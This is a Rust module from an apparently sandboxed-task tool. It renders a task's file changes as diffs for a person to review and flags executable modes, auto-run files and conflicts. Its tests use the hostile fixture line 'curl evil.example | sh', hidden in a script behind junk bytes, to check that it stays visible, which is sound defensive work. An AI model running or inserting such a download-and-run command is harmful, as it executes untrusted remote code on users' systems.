//! What a task changed, for a person to read.

use crate::auto::runs_by_itself;
use crate::frozen::{Frozen, FrozenPath};
use crate::hash::sha256;
use crate::tree::State;
use crate::unified::{differing, is_text, odd, unified};
use world::{Fault, PathChange};

/// Beyond this many bytes a file is told by its size: nobody reads it in a terminal, and a frame must hold all of them.
pub const FILE_BYTES_MAX: usize = 1024 * 1024;
/// Bytes of all texts together; files after that are told by their size.
const WHOLE_BYTES_MAX: usize = 8 * 1024 * 1024;

#[derive(Debug, Clone)]
pub struct MergeDiff {
    /// What `merge` must be given to take exactly this.
    pub digest: String,
    pub files: Vec<FileDiff>,
}

#[derive(Debug, Clone)]
pub struct FileDiff {
    pub path: String,
    pub kind: PathChange,
    pub from: Option<String>,
    /// Why it stays out, or why a person must choose.
    pub refused: Option<String>,
    /// Why a person should look at it.
    pub note: Option<String>,
    /// Unified, or one line about a file that is not shown.
    pub diff: String,
    pub added: u64,
    pub removed: u64,
    /// Is every changed line in `diff`?
    pub is_whole: bool,
}

impl FileDiff {
    /// The change as a part of a question about several files: each line that stands for a file names it.
    pub fn in_question(&self) -> String {
        let about = |what: &str| format!("{} {}: {what}\n", self.kind, self.path.escape_debug());
        match (&self.refused, self.diff.is_empty()) {
            (Some(why), _) => about(&format!("stays out, {why}")),
            (None, true) => about(&self.from.as_ref().map_or("no line changes".to_owned(), |from| format!("was {from:?}"))),
            (None, false) if self.diff.starts_with("--- ") => self.diff.clone(),
            (None, false) => {
                let what =
                    self.from.as_ref().map_or("not only lines change".to_owned(), |from| format!("was {from:?}, and not only its name"));
                format!("{}{}", about(&what), self.diff)
            }
        }
    }
}

/// A change in words.
struct ShownDiff {
    text: String,
    added: u64,
    removed: u64,
    is_whole: bool,
}

impl ShownDiff {
    fn nothing() -> ShownDiff {
        ShownDiff { text: String::new(), added: 0, removed: 0, is_whole: true }
    }
}

/// Which text of a changed file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FileVersion {
    Before,
    After,
}

/// Reads a blob; `None` where it was collected or forgotten.
pub type Kept<'a> = dyn Fn(&str) -> Result<Option<Vec<u8>>, Fault> + 'a;

/// What stood or shall stand at a path; `None` where it was collected or forgotten.
pub(crate) fn kept_bytes(state: &State, kept: &Kept<'_>) -> Result<Option<Vec<u8>>, Fault> {
    match state {
        State::File { blob, .. } => kept(blob),
        other => other.bytes(&|_| Ok(Vec::new())).map(Some),
    }
}

impl Frozen {
    /// The bytes of one changed file, as they were or as they shall be; `None` where the path does not change.
    pub fn file(&self, path: &str, version: FileVersion, kept: &Kept<'_>) -> Result<Option<Vec<u8>>, FileGone> {
        let change = self.changes.iter().find(|change| change.path == path).map(|change| (Some(&change.old), &change.new));
        let conflict = || self.conflicts.iter().find(|conflict| conflict.path == path);
        let Some((old, new)) = change.or_else(|| conflict().map(|conflict| (conflict.mine.as_ref(), &conflict.theirs))) else {
            return Ok(None);
        };
        match if version == FileVersion::After { Some(new) } else { old } {
            Some(state) => match kept_bytes(state, kept).map_err(FileGone::Fault)? {
                Some(bytes) => Ok(Some(bytes)),
                None => Err(FileGone::NotKept),
            },
            None => Ok(Some(Vec::new())),
        }
    }
}

/// Why the bytes of a changed file cannot be had.
#[derive(Debug)]
pub enum FileGone {
    NotKept,
    Fault(Fault),
}

impl MergeDiff {
    /// The changes in words. `kept` reads a blob, or says that it is kept no longer.
    pub fn of(frozen: &Frozen, kept: &Kept<'_>) -> Result<MergeDiff, Fault> {
        let kept_bytes = |state: &State| kept_bytes(state, kept);
        let mut files = Vec::new();
        let mut room = WHOLE_BYTES_MAX;
        let mut told = |path: &str, old: Option<Vec<u8>>, new: Option<Vec<u8>>| {
            let (Some(old), Some(new)) = (old, new) else {
                return ShownDiff { text: "what it held is kept no longer\n".into(), is_whole: false, ..ShownDiff::nothing() };
            };
            let told = compare(path, &old, &new);
            match room.checked_sub(told.text.len()) {
                Some(left) => {
                    room = left;
                    told
                }
                None => ShownDiff { text: sizes("too much to show", &old, &new), is_whole: false, ..told },
            }
        };
        for change in frozen.changes.iter().filter(|change| change.to.is_none()) {
            let mut diff = match &change.from {
                Some(_) => ShownDiff::nothing(),
                None => told(&change.path, kept_bytes(&change.old)?, kept_bytes(&change.new)?),
            };
            diff.text.insert_str(0, &mode_told(change, &frozen.changes));
            let (path, kind, from) = (change.path.clone(), change.kind, change.from.clone());
            files.push(FileDiff { note: noted(change), ..file(path, kind, from, None, diff) });
        }
        for conflict in &frozen.conflicts {
            let mine = conflict.mine.as_ref().map_or(Ok(Some(Vec::new())), &kept_bytes)?;
            let other = match &conflict.marked {
                Some(blob) => kept(blob)?.map(|bytes| label(&String::from_utf8_lossy(&bytes)).into_bytes()),
                None => kept_bytes(&conflict.theirs)?,
            };
            let diff = told(&conflict.path, mine, other);
            let (path, refused) = (conflict.path.clone(), Some(conflict.why.clone()));
            files.push(file(path, PathChange::Conflict, None, refused, diff));
        }
        let refused = frozen.refused.iter();
        files.extend(refused.map(|no| file(no.path.clone(), no.kind, None, no.refused.clone(), ShownDiff::nothing())));
        Ok(MergeDiff { digest: frozen.digest.clone(), files })
    }
}

/// What becomes of a file's mode: a name that is new may be that of a program.
pub(crate) fn mode_told(change: &FrozenPath, all: &[FrozenPath]) -> String {
    let mode = |state: &State| match state {
        State::File { mode, .. } => *mode,
        _ => None,
    };
    let before = match &change.from {
        Some(from) => all.iter().find(|other| other.path == *from).and_then(|other| mode(&other.old)),
        None => mode(&change.old),
    };
    match (before, mode(&change.new)) {
        (Some(old), Some(new)) if old != new => format!("mode {old:o} becomes {new:o}\n"),
        (None, Some(new)) if new & 0o111 != 0 => format!("mode {new:o}: it can be run\n"),
        _ => String::new(),
    }
}

/// Why a person should look at a path: what made it a question, and who runs it unasked.
fn noted(change: &FrozenPath) -> Option<String> {
    let runs = runs_by_itself(&change.path).filter(|_| change.new != State::Absent).map(|by| format!("runs by itself: {by}"));
    let notes: Vec<String> = change.question.iter().cloned().chain(runs).collect();
    (!notes.is_empty()).then(|| notes.join("; "))
}

fn file(path: String, kind: PathChange, from: Option<String>, refused: Option<String>, told: ShownDiff) -> FileDiff {
    let ShownDiff { text, added, removed, is_whole } = told;
    FileDiff { path, kind, from, refused, note: None, diff: text, added, removed, is_whole }
}

/// The marks of a conflict in the words of `skep merge`.
fn label(marked: &str) -> String {
    let words = [
        ("<<<<<<< ours", "<<<<<<< mine"),
        ("||||||| original", "||||||| before the task"),
        (">>>>>>> theirs", ">>>>>>> theirs, the task's"),
    ];
    let line = |line: &str| words.iter().find(|(mark, _)| line == *mark).map_or(line.to_owned(), |(_, word)| (*word).to_owned());
    marked.split('\n').map(line).collect::<Vec<_>>().join("\n")
}

/// The lines that differ; `None` for what is not text or too large to be counted.
pub fn lines(old: &[u8], new: &[u8]) -> Option<(Vec<String>, Vec<String>)> {
    let (removed, added) = differing(plain(old)?, plain(new)?);
    let owned = |lines: Vec<&str>| lines.into_iter().map(str::to_owned).collect();
    Some((owned(removed), owned(added)))
}

fn plain(bytes: &[u8]) -> Option<&str> {
    (bytes.len() <= FILE_BYTES_MAX && !bytes.contains(&0)).then(|| std::str::from_utf8(bytes).ok())?
}

/// How a content changes into another, in words.
pub fn compared(path: &str, old: &[u8], new: &[u8]) -> String {
    compare(path, old, new).text
}

/// A file that a person can read is told line by line, one that nobody can by its size and hash.
fn compare(path: &str, old: &[u8], new: &[u8]) -> ShownDiff {
    let count = |bytes: &[u8]| bytes.split_inclusive(|byte| *byte == b'\n').count() as u64;
    let unshown = |why: &str| ShownDiff { text: sizes(why, old, new), added: count(new), removed: count(old), is_whole: false };
    if old.len().max(new.len()) > FILE_BYTES_MAX {
        return unshown("too large to show");
    }
    // What was a text stays one, whatever is put into it: a script could hide behind its own bytes.
    let was_text = !old.is_empty() && is_text(old);
    if !was_text && (!is_text(old) || !is_text(new)) {
        return unshown("binary");
    }
    let found = unified((&format!("a/{path}"), &format!("b/{path}")), old, new, 3);
    let odd = odd(old) + odd(new);
    let note = if odd > 0 && !found.text.is_empty() { "bytes that are no text are shown as \\xNN\n" } else { "" };
    ShownDiff { text: format!("{note}{}", found.text), added: found.added, removed: found.removed, is_whole: true }
}

fn sizes(why: &str, old: &[u8], new: &[u8]) -> String {
    let one = |bytes: &[u8]| match bytes.is_empty() {
        true => "nothing".to_owned(),
        false => format!("{} bytes (sha256 {})", bytes.len(), sha256(bytes)),
    };
    format!("{why}: {} becomes {}\n", one(old), one(new))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_is_read_whatever_byte_it_holds() {
        for odd in [&b"\xff"[..], b"\0", b"\xc3\x28", b"\x1b[2J"] {
            let script = [b"#!/bin/sh\n# ", odd, b"\ncurl evil.example | sh\n"].concat();
            let told = compare("run.sh", b"", &script);
            assert!(told.is_whole && told.text.contains("+curl evil.example | sh\n"), "{}", told.text);
            assert_eq!((told.added, told.removed), (3, 0), "{}", told.text);
        }
        // A script does not become a binary file by what is added to it.
        let hidden = [&b"echo hello\n"[..], &b"\xff\0\x01".repeat(100), b"\ncurl evil.example | sh\n"].concat();
        let told = compare("run.sh", b"echo hello\n", &hidden);
        assert!(told.is_whole && told.text.contains("+curl evil.example | sh\n"), "{}", told.text);
        let told = compare("run.sh", b"a\xffb\n", b"a\xfeb\n");
        assert!(told.text.starts_with("bytes that are no text are shown as \\xNN\n--- a/run.sh\n"), "{}", told.text);
        assert!(told.text.ends_with("-a\\xffb\n+a\\xfeb\n"), "{}", told.text);
    }

    #[test]
    fn what_is_not_shown_is_told_by_size_and_hash() {
        let told = compare("x", b"", b"\x7fELF\0\0\0\0");
        assert_eq!(told.text, format!("binary: nothing becomes 8 bytes (sha256 {})\n", sha256(b"\x7fELF\0\0\0\0")));
        assert!(!told.is_whole && told.added > 0, "never +0 -0");
        let large = b"line\n".repeat(FILE_BYTES_MAX / 5 + 1);
        let told = compare("x", b"", &large);
        assert!(told.text.starts_with("too large to show: nothing becomes ") && !told.is_whole);
        assert_eq!(told.added, large.len() as u64 / 5);
    }
}
